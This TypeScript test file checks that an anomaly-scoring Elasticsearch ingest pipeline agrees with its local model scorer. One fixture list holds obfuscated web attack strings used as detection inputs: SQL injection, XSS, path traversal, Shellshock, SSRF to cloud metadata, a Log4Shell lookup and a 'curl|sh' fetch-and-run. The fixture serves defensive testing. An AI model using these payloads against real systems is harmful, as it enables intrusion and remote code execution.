import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parseExactJson } from '../../common/log_parsing/exact_json';
import type { LogDocument } from '../../common/log_document';
import { PRESETS } from '../../common/log_features';
import { parseLines } from '../../common/log_parsing';
import { createModelScorer, type ModelSnapshot } from '../../common/model_snapshot';
import { compilePipeline, PIPELINE_FAILED, type IngestPipeline } from '../../common/painless';
import { connect } from '../../server/elasticsearch';
import { dirtyLogs } from './fixtures/dirty_logs';
import { trainModel } from '../../server/detection/training/train_model';
import { ALL_KINDS, demoDocuments, MASKING_KINDS, trainOn } from './fixtures/ingest_models';

const INDEX = 'ingest-agreement';
const PIPELINE = 'ingest-agreement';
const DATA = process.env.LOG_ANOMALIES_DATA ?? join(__dirname, '../../../shared/data');
const LARGEST_BULK = 20_000_000;

interface Scored {
  anomaly: {
    score?: number;
    confidence: number;
    severity: string;
    is_anomaly: boolean;
    unscored?: string | string[];
    attribution?: { feature: string; share: number }[];
  };
  model: { version: string };
}

/** Attacks in all that hides them, and ordinary texts that look like some. */
const HIDDEN_ATTACKS = [
  '/shop/.ENV?a=1',
  '/index.php.bak',
  'https://sdk.example.com/v1/sdk-reference',
  'https://a.example:8443/wp-admin?a=://b/sdk',
  'https://owa.example.com',
  '/.environment',
  '/p?id=1%2527%2520UNION/**/ALL%2520SELECT%25201,2%2523',
  '/p?q=&lt;script&gt;alert(1)&LT;/script&#62;',
  '/p?q=%26%23x3c%3Bscript%26%2362%3B&#9999999;&#;&#x;&lt',
  '/p?q=\\u003cscript\\x3e%u003csvg%U003e\\u00g1\\x1',
  '/p?q=%EF%BC%9Cscript%EF%BC%9E\uff1cimg\uff1e%EF%BD%9B%EF%BD',
  '/p?file=%c0%ae%c0%ae/%c1%9c%c0%ae%c0%2f%c0',
  '/p?cmd=whoami&x=1;netstat -an | id',
  '/p?host=1.1.1.1|id;ls%20-la;uname;',
  '/p?q=() { :; }; /bin/bash -c id',
  '/p?id=1 order by 9--&y=(select 1)',
  'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)',
  'WPScan v3.8.22 (https://wpscan.com/) nmap',
  '/api/netstats/whoami/nmap-for-beginners?q=3+row(s)+broadcast(1)',
  '/search?q=shoes+like+nike+or+3+&page=2&r=union+select',
  '/p?x=1%0d%0aSet-Cookie:%20a=b%0A%0DHTTP/1.1%20200%0d%0a-:x%0d%0aX:y%0d%0aa-very-long-name-of-a-header-here:%0d',
  '/p?f=%e0%80%ae%e0%81%80%f0%80%80%af%f0%80%81%81%e0%80%f0%80%80%2525252e%25252e%u2215%u2216%uefc8%uf025/',
  '/p?u=http://169.254.169.254/latest&v=http://localhost:22/&w=http://127.1&x=gopher://a',
  '/p?d=O:8:"stdClass":1:{s:1:"a"}&e=rO0ABXNy&f={"__proto__":{}}&password[$ne]=1&g=<!ENTITY%20a%20SYSTEM%20"b">',
  '/p?n={{7*7}}&m={{campaign.name}}&l=${j${lower:n}di:ldap://x}&c=;curl+a.b|sh&r=return_to=//a',
];

/** Addresses of all kinds, and what only looks like one. */
const ADDRESSES = [
  ...['10.1.2.3', '172.16.9.9', '172.32.9.9', '192.168.7.1', '100.64.0.1', '127.0.0.1', '0.0.0.0', '8.8.8.8'],
  ...['224.0.0.251', '255.255.255.255', '::1', '::', 'fe80::1%eth0', 'FD12:3456:789a:1::9', '2001:db8::1'],
  ...['::ffff:10.1.2.3', '::ffff:808:808', 'ff02::fb', 'fd12:3456:789a:1:2:3:4.5.6.7', '1::2::3', ':::'],
  ...['1:2:3:4:5:6:7', '1:2:3:4:5:6:7:8:9', '10.1.2', '10.1.2.256', '10.1.2.+3', '010.1.2.3', 'é.1.2.3', '.'],
  ...[':', '%', '%eth0', '-f::', '12345::', 'gateway', `${'a'.repeat(300)}.b`, '10.1.2.3:443'],
];
const PORTS = [443, '8080', 0, -1, 49_152, 51_324, 65_535, 65_536, 22.5, 'ssh', null, [53, 40_000], 1e300];

const connectionOf = (place: number): LogDocument => ({
  source: { ip: ADDRESSES[place % ADDRESSES.length], port: PORTS[place % PORTS.length] },
  destination: {
    ip: ADDRESSES[(place * 7) % ADDRESSES.length],
    port: PORTS[(place * 5 + (place >> 4)) % PORTS.length],
  },
});

describe('a compiled pipeline in Elasticsearch', () => {
  jest.setTimeout(300_000);
  const client = connect();

  beforeEach(async () => {
    await client.indices.delete({ index: INDEX, ignore_unavailable: true });
    await client.indices.create({ index: INDEX, mappings: { enabled: false } });
  });
  afterAll(async () => {
    await client.indices.delete({ index: INDEX, ignore_unavailable: true });
    await client.ingest.deletePipeline({ id: PIPELINE }).catch(() => undefined);
    await client.close();
  });

  const put = (pipeline: IngestPipeline): Promise<unknown> =>
    client.ingest.putPipeline({ id: PIPELINE, ...structuredClone(pipeline) });

  /** Indexes JSON texts through the pipeline. @returns what was stored, in their order */
  async function stored(logs: readonly string[]): Promise<Scored[]> {
    const found: Scored[] = [];
    for (let from = 0; from < logs.length;) {
      let size = 0;
      let to = from;
      while (to < logs.length && to - from < 500 && (to === from || size + logs[to].length < LARGEST_BULK)) {
        size += logs[to++].length;
      }
      const part = logs.slice(from, to);
      const answer = await client.bulk<unknown, string>({
        index: INDEX,
        pipeline: PIPELINE,
        operations: part.flatMap((log, i) => [`{"index":{"_id":"${from + i}"}}`, log]),
      });
      expect(answer.items.flatMap(({ index }) => (index?.error ? [index.error] : []))).toEqual([]);
      const { docs } = await client.mget<Scored>({ index: INDEX, ids: part.map((_, i) => String(from + i)) });
      for (const doc of docs) found.push((doc as { _source: Scored })._source);
      from = to;
    }
    return found;
  }

  async function expectAgreement(snapshot: ModelSnapshot, logs: readonly string[]): Promise<Scored[]> {
    await put(compilePipeline(snapshot, { detectorId: 'test' }));
    const scorer = createModelScorer(snapshot);
    const documents = logs.map((log) => parseExactJson(log) as LogDocument);
    const { scores } = scorer.score(documents);
    const found = await stored(logs);
    const differing: unknown[] = [];
    found.forEach(({ anomaly, model }, i) => {
      const verdict = scorer.verdict(scores[i]);
      const agrees =
        anomaly.score !== undefined &&
        Math.abs(anomaly.score - scores[i]) <= 1e-9 &&
        Math.abs(anomaly.confidence - verdict.confidence) <= 1e-9 &&
        anomaly.is_anomaly === verdict.isAnomaly &&
        anomaly.severity === verdict.severity &&
        model.version === snapshot.version;
      if (!agrees) differing.push({ log: logs[i].slice(0, 2_000), anomaly, score: scores[i], verdict });
    });
    expect(differing.slice(0, 3)).toEqual([]);
    return found;
  }

  const texts = (documents: readonly LogDocument[]): string[] => documents.map((log) => JSON.stringify(log));

  /** Training takes seconds: tests that do not ask for a model of their own share this one. */
  const ordinary = demoDocuments(0.02, 0.3);
  let ordinaryModel: ModelSnapshot | undefined;
  const modelOfOrdinary = (): ModelSnapshot => (ordinaryModel ??= trainOn(ordinary, ALL_KINDS));

  it('agrees on demo logs with defects, on attacks that hide, and on the attribution of anomalies', async () => {
    const hidden = HIDDEN_ATTACKS.map((original): LogDocument => ({ ...ordinary[0], url: { original } }));
    const documents = [...ordinary, ...hidden];
    const snapshot = modelOfOrdinary();
    const found = await expectAgreement(snapshot, texts(documents));
    const scorer = createModelScorer(snapshot);
    const anomalies = found.flatMap(({ anomaly }, i) => (anomaly.is_anomaly ? [{ anomaly, i }] : []));
    expect(anomalies.length).toBeGreaterThan(5);
    for (const { anomaly, i } of anomalies) {
      const { attribution } = scorer.explain(documents[i]);
      anomaly.attribution!.forEach(({ share }, place) =>
        expect(share).toBeCloseTo(attribution[place].share, 9),
      );
      for (const { feature, share } of anomaly.attribution!) {
        expect(share).toBeCloseTo(attribution.find((entry) => entry.feature === feature)!.share, 9);
      }
    }
    expect(found.filter(({ anomaly }) => !anomaly.is_anomaly && anomaly.attribution !== undefined)).toEqual(
      [],
    );
  });

  it('agrees on integers that a double cannot hold, alone and in lists', async () => {
    const ids = ['9007199254740992', '9007199254740993', '-9223372036854775808', '18446744073709551615'];
    const textOf = (id: string, number: number): string =>
      `{"@timestamp":"2026-11-01T00:00:00Z","id":${id},"list":[${id},7,"b"],"size":${number % 9}}`;
    const logs = Array.from({ length: 400 }, (_, number) => textOf(ids[number % ids.length], number));
    const snapshot = trainOn(
      logs.map((log) => parseExactJson(log) as LogDocument),
      [
        { type: 'category', field: 'id' },
        { type: 'category', field: 'list' },
        { type: 'number', field: 'id', name: 'size of id' },
        { type: 'number', field: 'size' },
      ],
    );
    const news = [
      '9007199254740995',
      '9007199254740994',
      '18446744073709551614',
      '1e19',
      '9007199254740993.0',
    ];
    const found = await expectAgreement(snapshot, [...logs, ...news.map(textOf)]);
    const [usual, unseen] = [found.slice(0, 400), found.slice(400, 403)].map((part) =>
      part.map(({ anomaly }) => anomaly.score as number),
    );
    expect(Math.min(...unseen)).toBeGreaterThan(Math.max(...usual));
  });

  it('agrees on texts in place of numbers, and on amounts below 0, which no training log has', async () => {
    const service = (index: number): string => ['shop', 'bank'][index % 2];
    const logOf = (amount: unknown, index: number): LogDocument => ({
      '@timestamp': new Date(Date.UTC(2026, 0, 5) + index * 60_000).toISOString(),
      service: service(index),
      amount,
      level: 20 + (index % 13),
    });
    const logs = Array.from({ length: 600 }, (_, index) =>
      logOf(Math.round(Math.exp(((index * 7) % 101) / 15)), index),
    );
    const snapshot = trainOn(logs, [
      { type: 'deviation', field: 'amount', by: ['service'] },
      { type: 'deviation', field: 'level', by: ['service'], direction: 'low' },
    ]);
    const odd = ['ERR', 'nan', ['ERR', 'x'], true, '---', -40, '-40'];
    const usual = ['', '-', null, {}, [], ['ERR', 25], 400, '400'];
    const texts = [...odd, ...usual].map((value, index) => logOf(value, index));
    const levels = odd.slice(0, 5).map((value, index) => ({ ...logOf(400, index), level: value }));
    const found = await expectAgreement(
      snapshot,
      [...texts, ...levels].map((log) => JSON.stringify(log)),
    );
    const areOdd = found.map(({ anomaly }) => anomaly.is_anomaly);
    expect(areOdd).toEqual([...odd.map(() => true), ...usual.map(() => false), ...levels.map(() => true)]);
    expect(found[0].anomaly.unscored).toEqual(['amount: wrong_type']);
    expect(found[0].anomaly.attribution![0]).toMatchObject({
      feature: 'amount',
      unseen: true,
      trained_on: 480,
    });
    expect(found[5].anomaly.attribution![0]).toMatchObject({
      feature: 'amount',
      unseen: true,
      trained_on: 480,
    });
  });

  it('agrees on numbers that an earlier processor has made Floats', async () => {
    const values = [1.1, 2.2, 3.3];
    const logs = Array.from({ length: 600 }, (_, index): LogDocument => ({
      '@timestamp': new Date(Date.UTC(2026, 0, 5) + index * 60_000).toISOString(),
      rate: values[index % 3],
      size: 10.1 + (index % 7),
    }));
    const snapshot = trainOn(logs, [
      { type: 'category', field: 'rate' },
      { type: 'number', field: 'size' },
    ]);
    const { processors, ...rest } = compilePipeline(snapshot, { detectorId: 'agreement' });
    const floats = ['rate', 'size'].map((field) => ({ convert: { field, type: 'float' as const } }));
    await put({ ...rest, processors: [...floats, ...processors] });
    const scores = createModelScorer(snapshot).score(logs.slice(0, 30)).scores;
    const found = await stored(logs.slice(0, 30).map((log) => JSON.stringify(log)));
    found.forEach(({ anomaly }, row) => expect(anomaly.score).toBeCloseTo(scores[row], 9));
  });

  it('agrees on masked texts and on routes with names of products, which are learned', async () => {
    // A count that a log itself has under the name of that of a row is compared as that is, by its root.
    const documents = demoDocuments(0.02, 0.3).map((log, place) => ({
      ...log,
      bucket: { count: 20 + (place % 7) - (place % 50 === 0 ? 20 : 0) },
      ...(place % 3 > 0 && { at_times: `value ${place % 5}` }),
      ...connectionOf(place),
    }));
    const counts = { type: 'deviation', field: 'bucket.count', by: 'service.name', tolerance: 1 } as const;
    const snapshot = trainOn(documents, [...(MASKING_KINDS ?? []), counts]);
    expect(snapshot.encoder.toJSON()).toMatchObject({
      route_parameters: [{ field: 'url.original', parents: expect.arrayContaining(['/products']) }],
    });
    const dirty = dirtyLogs({ seed: 3, count: 1_000, fields: snapshot.encoder.fields });
    const others = demoDocuments(0.01, 0.3, 12).map((log, place) => ({ ...log, ...connectionOf(3 * place) }));
    await expectAgreement(snapshot, [...texts(others), ...dirty]);
  });

  it('agrees where the forest has learned from verdicts', async () => {
    const { detector } = modelOfOrdinary();
    const judged = {
      documents: ordinary.slice(0, 40),
      truths: ordinary.slice(0, 40).map((_document, i) => i % 4 === 0),
    };
    const { snapshot } = trainModel({
      detector,
      documents: ordinary,
      judged,
      source: 'demo',
      clock: Date,
    });
    expect(snapshot.forest.lengthAdjustment!.some((adjustment) => adjustment !== 0)).toBe(true);
    await expectAgreement(snapshot, texts(ordinary));
  });

  it.each([
    ['axis', 256, undefined],
    ['fair_cut', 64, undefined],
    ['axis', 2, undefined],
    ['mixed', 2_048, 8],
  ] as const)(
    'agrees on generated dirt, splits %s, psi %i, depth %p',
    async (splits, subsample, maxDepth) => {
      const snapshot = trainOn(demoDocuments(0.01, 0.3, 11), ALL_KINDS, {
        forest: { splits, subsample_size: subsample, max_depth: maxDepth, seed: 5 },
      });
      const logs = dirtyLogs({ seed: subsample, count: 2_000, fields: snapshot.encoder.fields });
      const found = await expectAgreement(snapshot, logs);
      expect(found.some(({ anomaly }) => anomaly.unscored?.includes('response_time: wrong_type'))).toBe(true);
      expect(found.some(({ anomaly }) => anomaly.unscored?.includes('request_size: missing'))).toBe(true);
    },
  );

  it('agrees on generated dirt that it was trained on', async () => {
    const { fields } = modelOfOrdinary().encoder;
    const logs = dirtyLogs({ seed: 99, count: 1_500, fields });
    const snapshot = trainOn(
      logs.map((log) => parseExactJson(log) as LogDocument),
      (ALL_KINDS ?? []).map(({ time_zone: _own, ...feature }) => feature),
      { time_zone: 'Europe/Berlin' },
    );
    await expectAgreement(snapshot, dirtyLogs({ seed: 100, count: 1_500, fields }));
  });

  const accessLog = join(DATA, 'apache_access.log.gz');
  (existsSync(accessLog) ? it : it.skip)('agrees on 10,000 real access logs', async () => {
    const lines = gunzipSync(readFileSync(accessLog)).toString('utf8').split('\n').filter(Boolean);
    const documents = [...parseLines(lines, 'combined')].flatMap(({ document }) =>
      document ? [document] : [],
    );
    const preset = PRESETS.find(({ name }) => name === 'web_access')!;
    await expectAgreement(trainOn(documents, [...preset.definitions]), texts(documents));
  });

  it('keeps what a log brought under the same names, and believes none of it', async () => {
    const snapshot = modelOfOrdinary();
    await put(compilePipeline(snapshot, { detectorId: 'test' }));
    const [first] = ordinary;
    const found = await stored(
      texts([
        { ...first, anomaly: 'none', model: 'X200' },
        { ...first, anomaly: { is_anomaly: false, unscored: ['old'], note: 1 }, model: { name: 'X' } },
        { ...first, 'anomaly.is_anomaly': true, 'anomaly.score': 1, 'model.version': 'forged' },
      ]),
    );
    const score = createModelScorer(snapshot).score([first]).scores[0];
    for (const { anomaly, model } of found) {
      expect(anomaly.score).toBeCloseTo(score, 9);
      expect(anomaly.unscored).toBeUndefined();
      expect(model.version).toBe(snapshot.version);
    }
    expect(found[0]).toMatchObject({ anomaly: { original: 'none' }, model: { original: 'X200' } });
    expect(found[1]).toMatchObject({ anomaly: { note: 1 }, model: { name: 'X' } });
    expect(Object.keys(found[2])).not.toEqual(expect.arrayContaining(['anomaly.score']));
  });

  it.each([
    ['inside the script', 'verdict', /^pipeline: /],
    ['of the processor', 'own', PIPELINE_FAILED],
  ])('indexes a log all the same after a failure %s', async (_, parameter, reason) => {
    const pipeline = structuredClone(compilePipeline(modelOfOrdinary(), { detectorId: 'test' }));
    const { script } = pipeline.processors[0] as { script: { params: Record<string, unknown> } };
    script.params[parameter] = 5;
    await put(pipeline);
    const [found] = await stored(texts(ordinary.slice(0, 1)));
    expect(found.anomaly).toEqual({ unscored: expect.stringMatching(reason) });
    expect(found).toMatchObject({ message: ordinary[0].message });
  });
});
